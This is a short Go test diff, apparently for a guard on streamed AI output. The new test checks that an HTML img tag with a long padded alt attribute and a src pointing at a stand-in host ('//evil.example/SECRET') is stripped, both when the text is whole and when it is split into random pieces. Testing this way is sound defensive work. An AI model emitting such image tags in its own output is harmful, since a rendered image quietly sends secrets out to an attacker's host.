@@ -144,3 +144,15 @@ func TestStreamLeaksPrompt(t *testing.T) {
 		t.Error(err)
 	}
 }
+
+// A tag whose end comes long after its beginning fetches nothing either.
+func TestLongTagInAStream(t *testing.T) {
+	t.Parallel()
+	g := watch(t, open(t))
+	text := "See <img alt='" + strings.ReplaceAll(numbered(300), " of", ".") + "' src='//evil.example/SECRET'> here."
+	for _, pieces := range [][]string{{text}, pieces(text, rand.New(rand.NewPCG(1, 2)), 30)} {
+		if out, _, err := flow(t, g, guard.About{}, pieces); err != nil || strings.Contains(out, "<img") || !strings.HasSuffix(out, " here.") {
+			t.Errorf("%.200q %v", out, err)
+		}
+	}
+}
